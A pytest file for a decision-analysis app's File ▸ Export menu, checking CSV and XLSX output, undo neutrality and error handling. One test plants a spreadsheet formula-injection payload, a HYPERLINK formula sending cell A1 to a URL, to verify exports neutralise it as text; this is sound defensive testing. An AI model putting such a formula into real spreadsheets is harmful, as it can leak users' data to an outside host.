"""File ▸ Export ▸ … as CSV / XLSX: the same tables as the CLI, undo-neutral, errors reported."""

from __future__ import annotations

import csv
import io

import pytest

from deepdecide.analysis import evaluate
from deepdecide.report import spreadsheet as sheet

pytestmark = pytest.mark.gui


def rows_of(path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8").lstrip("\ufeff"))))


def test_export_menu_lists_the_table_exports(make_window):
    window = make_window()
    texts = [a.text() for a in window.export_menu.actions() if not a.isSeparator()]
    assert texts[0] == window.act_export.text()
    assert "&Comparison as CSV…" in texts and "&Evidence as CSV…" in texts


def test_comparison_csv_from_the_menu_matches_the_assessment_and_is_no_edit(make_window, interaction, tmp_path):
    window = make_window()
    doc = window.document
    out = tmp_path / "comparison.csv"
    interaction.table_path = str(out)
    index, clean = doc.undo_stack.index(), doc.undo_stack.isClean()
    before = doc.workspace
    window.act_export_comparison.trigger()
    assert interaction.asked[-1].startswith("table:") and interaction.asked[-1].endswith("-comparison.csv")
    assert not interaction.errors
    rows = rows_of(out)
    a = evaluate(doc.workspace, sensitivity=False)
    assert [r["option"] for r in rows][: len(a.ranking)] == list(a.ranking)
    for r in rows:
        oa = a.option(r["option"])
        if oa.costs.tco_usd.value is not None:
            assert float(r["TCO over 3 years [$]"]) == pytest.approx(oa.costs.tco_usd.value)
    assert doc.workspace is before and doc.undo_stack.index() == index and doc.undo_stack.isClean() == clean
    assert str(out) in window.status_label.text()


def test_evidence_csv_from_the_menu(make_window, interaction, tmp_path):
    window = make_window()
    out = tmp_path / "evidence.csv"
    interaction.table_path = str(out)
    window.act_export_evidence.trigger()
    rows = rows_of(out)
    assert len(rows) == len(window.document.workspace.evidence.runs)
    assert list(rows[0])[:3] == ["file_name", "file_sha256", "file_kind"]


def test_a_failed_export_is_reported_and_writes_nothing(make_window, interaction, tmp_path):
    window = make_window()
    interaction.table_path = str(tmp_path / "no-such-folder" / "c.csv")
    window.act_export_comparison.trigger()
    assert len(interaction.errors) == 1
    assert isinstance(interaction.errors[0][1], OSError)
    assert not (tmp_path / "no-such-folder").exists()
    assert "nothing was written" in window.status_label.text()


def test_cancelled_dialog_writes_nothing(make_window, interaction, tmp_path):
    window = make_window()
    interaction.table_path = ""
    assert window.export_table("evidence") == ""
    assert not interaction.errors and list(tmp_path.glob("*.csv")) == []


def test_workbook_without_openpyxl_says_how_to_get_it(make_window, interaction, tmp_path, monkeypatch):
    window = make_window()
    monkeypatch.setattr(sheet, "xlsx_available", lambda: False)
    interaction.table_path = str(tmp_path / "w.xlsx")
    window.act_export_xlsx.trigger()
    assert "openpyxl" in str(interaction.errors[-1][1])
    assert not (tmp_path / "w.xlsx").exists()


def test_workbook_from_the_menu(make_window, interaction, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    window = make_window()
    out = tmp_path / "w.xlsx"
    interaction.table_path = str(out)
    window.act_export_xlsx.trigger()
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames == ["Comparison", "Evidence", "Parity"]
    wb.close()


def test_a_label_that_is_a_formula_leaves_the_workbook_and_the_csv_as_text(make_window, interaction, tmp_path):
    """The GUI writes through the same rule as ``deepdecide export``: no cell is a formula."""
    import dataclasses

    openpyxl = pytest.importorskip("openpyxl")
    from deepdecide.domain import edits

    window = make_window()
    doc = window.document
    payload = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"details")'
    f = doc.workspace.evidence.files[0]
    doc.edit(edits.SetEvidenceFile(0, dataclasses.replace(
        f, provenance=dataclasses.replace(f.provenance, label=payload))), "label")
    interaction.table_path = str(tmp_path / "w.xlsx")
    window.act_export_xlsx.trigger()
    assert not interaction.errors
    wb = openpyxl.load_workbook(tmp_path / "w.xlsx")
    assert not any(c.data_type == "f" for s in wb for row in s.iter_rows() for c in row)
    head = [c.value for c in wb["Evidence"][1]]
    assert payload in [row[head.index("file_label")].value for row in wb["Evidence"].iter_rows(min_row=2)]
    interaction.table_path = str(tmp_path / "e.csv")
    window.act_export_evidence.trigger()
    assert "'" + payload in [r["file_label"] for r in rows_of(tmp_path / "e.csv")]
